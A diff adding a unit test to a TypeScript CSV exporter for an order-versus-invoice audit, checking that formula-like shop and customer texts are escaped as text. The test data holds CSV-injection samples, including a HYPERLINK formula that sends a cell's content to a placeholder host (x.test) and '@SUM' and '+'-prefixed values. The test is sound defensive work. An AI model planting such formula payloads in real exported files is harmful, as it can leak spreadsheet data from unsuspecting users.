@@ -92,6 +92,27 @@ describe('the completeness audit', () => {
     expect(csv).toContain('Betrag weicht ab;#3;RE3;;20,00;10,00');
   });
 
+  it('writes shop and customer texts that start like a formula as text, and negative amounts as numbers', () => {
+    const csv = auditCsv([
+      {
+        kind: 'total_mismatch',
+        orderId: '1',
+        orderName: '=HYPERLINK("http://x.test/?"&A1;"Klick")',
+        lexwareId: 'v1',
+        number: '+RE1',
+        expectedCents: -1250,
+        actualCents: -1,
+      },
+      { kind: 'unknown_order', orderId: null, orderName: '@SUM(1+1)', lexwareId: 'v2', number: '-2+3' },
+      { kind: 'missing_credit', orderId: '3', orderName: '\tTab', refundId: '\r=1', expectedCents: 500 },
+      { kind: 'missing_invoice', orderId: '4', orderName: 'A-1 = ok', expectedCents: 0 },
+    ]).split('\r\n');
+    expect(csv[1]).toBe('Betrag weicht ab;"\'=HYPERLINK(""http://x.test/?""&A1;""Klick"")";\'+RE1;;-12,50;-0,01');
+    expect(csv[2]).toBe("Beleg nennt eine unbekannte Bestellung;'@SUM(1+1);'-2+3;;;");
+    expect(csv[3]).toBe('Gutschrift fehlt;\'\tTab;;"\'\r=1";5,00;');
+    expect(csv[4]).toBe('Rechnung fehlt;A-1 = ok;;;0,00;');
+  });
+
   it('counts an invoice closed by a repair as settled, and the credit note that closed it as no document of its own', () => {
     const orders = [order('2'), order('3')];
     const closing = (of: string, orderId: string): AuditVoucher => ({
